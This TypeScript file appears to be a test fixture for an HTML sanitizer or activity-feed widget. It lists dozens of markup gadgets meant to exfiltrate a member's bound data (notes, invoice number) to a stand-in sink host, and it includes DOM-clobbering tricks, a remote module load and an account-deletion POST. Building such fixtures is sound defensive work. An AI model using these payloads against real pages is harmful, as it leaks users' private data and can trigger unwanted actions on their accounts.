/** Another server to which content tries to send a member's data. Nothing listens there. */
export const sink = '127.0.0.1:9';

const evil = `http://${sink}`;
const values = 'n=[[notes]]&amp;i=[[raw.transaction.invoice_number]]&amp;t=[[time]]';

const feed = (content: string, attributes = '') =>
  `<div data-stamps-activity-feed ${attributes}>${content}</div>`;

const row = (content: string) => feed(`<div data-slot="activity">[[title]] ${content}</div>`);

/** Markup that sanitizers accept, by what it attempts. */
export const contentGadgets: Readonly<Record<string, string>> = {
  'an image in a row': row(`<img src="${evil}/c?${values}">`),
  'a picture in a row': row(
    `<picture><source srcset="${evil}/c?${values}"><img srcset="${evil}/c?${values} 2x"></picture>`,
  ),
  'media in a row': row(
    `<video src="${evil}/v?${values}" poster="${evil}/p?${values}" autoplay></video><audio src="${evil}/a?${values}" autoplay></audio>`,
  ),
  'SVG in a row': row(
    `<svg><image href="${evil}/i?${values}"></image><use href="${evil}/u?${values}"></use>
     <rect fill="url(${evil}/f?${values})" filter="url(${evil}/g?${values})"></rect></svg>`,
  ),
  'styles in a row': row(
    `<p style="background:url(${evil}/s?${values})">x</p><table background="${evil}/b?${values}"></table>
     <style>p{background:url(${evil}/s?${values})}</style>`,
  ),
  'a link in a row': row(
    `<a href="${evil}/l?${values}" ping="${evil}/l?${values}">x</a><map><area href="${evil}/l?${values}"></map>`,
  ),
  'a form in a row': row(
    `<form action="${evil}/f"><input name="n" value="[[notes]]"><input type="image" src="${evil}/i?${values}">
     <select><option>[[notes]]</option></select><textarea>[[notes]]</textarea><button formaction="${evil}/b?${values}">x</button></form>`,
  ),
  'a template that is one already': feed(
    `<template slot="activity"><img src="${evil}/c?${values}"></template>
     <template data-slot="transaction"><img src="${evil}/c?${values}"></template>`,
  ),
  'an icon': feed(`<div data-slot="icon-transaction"><img src="${evil}/c?${values}"></div>`),
  'a template inside a slot': feed(
    `<div data-slot="header"><template slot="activity"><img src="${evil}/c?${values}"></template></div>`,
  ),
  'its own address of the API': feed(
    '',
    `data-api-url="${evil}" data-token="x" data-user="x" DATA-Credentials="include"`,
  ),
  'a POST to a path': feed('', 'data-token-url="/account/delete?confirm=1" data-user="x"'),
  'a first page': feed('', `data-initial-page='{"activities":[]}' data-restore`),
  'a module': feed('', `data-module-url="${evil}/module.js"`),
  'a feed inside a feed': feed(
    `<div data-slot="header">${row(`<img src="${evil}/c?${values}">`)}</div>${feed('', `data-api-url="${evil}"`)}`,
  ),
  'a feed that seems to be there': feed(
    `<stamps-activity-feed api-url="${evil}" token-url="/account"><template slot="activity"><img src="${evil}/c?${values}"></template></stamps-activity-feed>
     <div data-stamps-row slot="activity-1"><img src="${evil}/c?${values}"></div>`,
    'data-stamps-templates="page" data-stamps-feed',
  ),
  'elements named like the configuration': `<form id="stampsActivityFeed"><input name="apiUrl" value="${evil}"><input name="tokenUrl" value="/x"></form>
     <a id="stampsActivityFeed" href="${evil}"></a><a id="stampsActivityFeed" name="moduleUrl" href="${evil}/m.js"></a>
     <img name="stampsActivityFeed"><a id="stampsActivityFeedLoader" href="${evil}"></a>${feed('')}`,
  'a form as the place': `<form data-stamps-activity-feed action="${evil}"><input name="stampsFeed"><input name="stampsContent"><button>x</button></form>`,
  'an option around it': `<form action="${evil}"><select name="q"><option><div data-stamps-activity-feed><div data-slot="activity">[[notes]]</div></div></option></select><button>x</button></form>`,
  'an element with another’s name': row(
    `<p is="review-card" data-src="${evil}/c?${values}">[[notes]]</p>`,
  ),
  'a picture in MathML or HTML inside SVG': row(
    `<svg><foreignObject><img src="${evil}/f?${values}"></foreignObject><feImage href="${evil}/e?${values}"></feImage></svg>
     <math><mi href="${evil}/m?${values}">[[notes]]</mi><annotation-xml encoding="text/html"><img src="${evil}/x?${values}"></annotation-xml></math>`,
  ),
  'a document’s own links in a row': row(
    `<meta http-equiv="refresh" content="0;url=${evil}/m?${values}"><link rel="prefetch" href="${evil}/p?${values}">
     <link rel="dns-prefetch" href="//[[notes]].evil.example"><base href="${evil}/"><object data="${evil}/o?${values}"></object>`,
  ),
  'bindings written as entities': row(
    `<img src="${evil}/e?n=&#91;&#91;notes&#93;&#93;"><a href="${evil}/e?n=&lbrack;&lbrack;notes]]">x</a><p title="&#x5b;[notes]&#x5d;">x</p>`,
  ),
  'bindings that are split': row(
    `<img src="${evil}/s?n=[[" alt="notes]]"><a href="${evil}/s?[[no<b>tes]]">x</a><b>[[no</b><i>tes]]</i>[<!-- -->[notes]]`,
  ),
  'fields of a form elsewhere': `<form id="elsewhere" action="${evil}"><button>x</button></form>${row(
    `<input form="elsewhere" name="n" value="[[notes]]"><textarea form="elsewhere" name="t">[[notes]]</textarea><output form="elsewhere">[[notes]]</output>`,
  )}`,
  'styles by functions and variables': row(
    `<p style="--x:url(${evil}/v?${values});background:image-set('${evil}/i?${values}' 1x)">x</p><font face="[[notes]]" color="[[notes]]">x</font>`,
  ),
  'a shadow root': `<div data-stamps-activity-feed><template shadowrootmode="open"><form action="${evil}"><slot></slot></form></template>
     <template data-slot="activity" shadowrootmode="open"><img src="${evil}/d?${values}">[[title]]</template></div>`,
  'places inside fields': `<form action="${evil}"><select name="s"><button><selectedcontent data-stamps-activity-feed></selectedcontent></button>
     <option selected><span data-stamps-activity-feed></span></option></select><datalist id="list"><option><p data-stamps-activity-feed></p></option></datalist>
     <textarea name="t" data-stamps-activity-feed></textarea><button>x</button></form>`,
  'attributes of every other kind': feed(
    '',
    `data-receipt-url="${evil}/{reference}" data-sign-in-url="${evil}" data-fetch="x" data-get-token="x" data-render-row="x"
     data-style="background:url(${evil}/s)" data-onclick="alert(1)" data-id="x" data-templates="page" data-unit="[[notes]] x"`,
  ),
  'elements named like the platform’s own': `${[
    'currentScript',
    'dataset',
    'getAttribute',
    'templates',
    'apiUrl',
    'addEventListener',
  ]
    .map(
      (name) =>
        `<img name="${name}" data-api-url="${evil}" data-templates><form name="${name}" data-api-url="${evil}"></form>`,
    )
    .join('')}${feed('')}`,
};
